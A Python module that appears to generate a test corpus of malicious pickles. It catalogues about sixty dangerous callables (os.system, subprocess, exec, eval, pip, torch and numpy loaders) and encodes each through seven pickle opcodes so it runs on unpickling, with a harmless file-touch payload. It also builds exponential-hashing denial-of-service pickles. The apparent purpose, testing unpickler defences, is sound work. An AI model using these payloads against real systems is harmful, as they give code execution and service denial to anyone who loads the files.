"""Pickles that are programs: each would make a file if it were unpickled by Python."""

from collections.abc import Iterator
from typing import Any

from torch_writer import STOP, encode, name, text

PROTO = b"\x80\x02"

# (module, function, arguments); {} is the file that it would make.
CALLS: list[tuple[str, str, list[Any]]] = [
    ("os", "system", ["touch {}"]),
    ("posix", "system", ["touch {}"]),
    ("nt", "system", ["touch {}"]),
    ("subprocess", "call", [["touch", "{}"]]),
    ("subprocess", "Popen", [["touch", "{}"]]),
    ("subprocess", "check_output", [["touch", "{}"]]),
    ("builtins", "exec", ["open('{}', 'w')"]),
    ("builtins", "eval", ["open('{}', 'w')"]),
    ("builtins", "open", ["{}", "w"]),
    ("builtins", "__import__", ["antigravity"]),
    ("builtins", "getattr", ["os", "system"]),
    ("builtins", "compile", ["open('{}', 'w')", "x", "exec"]),
    ("builtins", "map", [None, ["{}"]]),
    ("__builtin__", "eval", ["open('{}', 'w')"]),
    ("io", "open", ["{}", "w"]),
    ("_io", "FileIO", ["{}", "w"]),
    ("pathlib", "Path.touch", ["{}"]),
    ("os", "mkdir", ["{}"]),
    ("os", "popen", ["touch {}"]),
    ("os", "execv", ["/bin/touch", ["touch", "{}"]]),
    ("pty", "spawn", [["touch", "{}"]]),
    ("shutil", "copy", ["/etc/hostname", "{}"]),
    ("runpy", "run_path", ["{}"]),
    ("importlib", "import_module", ["antigravity"]),
    ("pickle", "loads", ["cos\nsystem\n(S'touch {}'\ntR."]),
    ("torch", "load", ["{}"]),
    ("torch.hub", "load", ["{}", "model"]),
    ("torch.serialization", "load", ["{}"]),
    ("torch.utils.collect_env", "run", ["touch {}"]),
    ("torch._utils", "_rebuild_wrapper_subclass", ["os", "system", "touch {}"]),
    ("torch._utils", "_rebuild_tensor_v2.__globals__", ["os"]),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ["open('{}', 'w')", {}, {}]),
    ("numpy", "load", ["{}", None, True]),
    ("numpy.testing._private.utils", "runstring", ["open('{}', 'w')", {}]),
    ("timeit", "timeit", ["open('{}', 'w')", "pass"]),
    ("cProfile", "run", ["open('{}', 'w')"]),
    ("pdb", "run", ["open('{}', 'w')"]),
    ("code", "InteractiveInterpreter", [{}]),
    ("ctypes", "CDLL", ["libc.so.6"]),
    ("functools", "partial", ["os.system", "touch {}"]),
    ("operator", "methodcaller", ["system", "touch {}"]),
    ("types", "FunctionType", ["{}"]),
    ("codecs", "decode", ["{}", "rot13"]),
    ("_codecs", "encode", ["{}", "latin1"]),
    ("webbrowser", "open", ["file://{}"]),
    ("urllib.request", "urlopen", ["file://{}"]),
    ("socket", "create_connection", [["127.0.0.1", 9]]),
    ("logging.config", "listen", [9]),
    ("pip", "main", [["install", "x"]]),
    ("pkgutil", "resolve_name", ["os.system"]),
    ("multiprocessing.util", "spawnv_passfds", ["touch", ["{}"], []]),
    ("tensorflow", "py_function", ["{}"]),
    ("keras.models", "load_model", ["{}"]),
    ("collections", "OrderedDict.fromkeys", ["{}"]),
    ("collections", "namedtuple", ["x", "y"]),
    ("torch", "Tensor", [1]),
    ("torch.storage", "_load_from_bytes", ["{}"]),
    ("joblib", "load", ["{}"]),
    ("dill", "loads", ["{}"]),
    ("pwc_exp.storage", "write_file", ["{}", "x"]),
]


def _aimed(value: Any, target: str) -> Any:
    if isinstance(value, str):
        return value.replace("{}", target)
    return [_aimed(item, target) for item in value] if isinstance(value, list) else value


def live_pickle(call: tuple[str, str, list[Any]], target: str) -> bytes:
    """A program that Python's own unpickler runs."""
    module, function, arguments = call
    return PROTO + name(module, function) + encode(tuple(_aimed(arguments, target))) + b"R" + STOP


def programs(target: str) -> Iterator[tuple[str, bytes]]:
    """(what it calls and how, instructions) of each; `target` is what they would make."""
    for module, function, arguments in CALLS:
        given = _aimed(arguments, target)
        called = name(module, function)
        on_stack = text(module) + text(function) + b"\x93"
        parts = b"".join(encode(item) for item in given)
        ways = {
            "REDUCE": called + encode(tuple(given)) + b"R",
            "STACK_GLOBAL": on_stack + encode(tuple(given)) + b"R",
            "INST": b"(" + parts + b"i" + called[1:],
            "OBJ": b"(" + called + parts + b"o",
            "NEWOBJ": called + encode(tuple(given)) + b"\x81",
            "NEWOBJ_EX": called + encode(tuple(given)) + b"}\x92",
            "BUILD": called + b")\x81" + encode({"__setstate__": given}) + b"b",
        }
        for way, program in ways.items():
            yield f"{module}.{function} by {way}", program


def nested_key() -> bytes:
    """{(((...), (...)), ...): None} of 60 levels, each twice the one below: 2^60 to hash."""
    return b"}" + b")" + b"2\x86" * 60 + b"Ns"


def doubled(container: bytes, add: bytes) -> bytes:
    """Lists of 60 levels, each with the one below in it twice."""
    return container + b"".join(
        b"q\x00" + container + b"h\x00" + add + b"h\x00" + add for _ in range(60)
    )
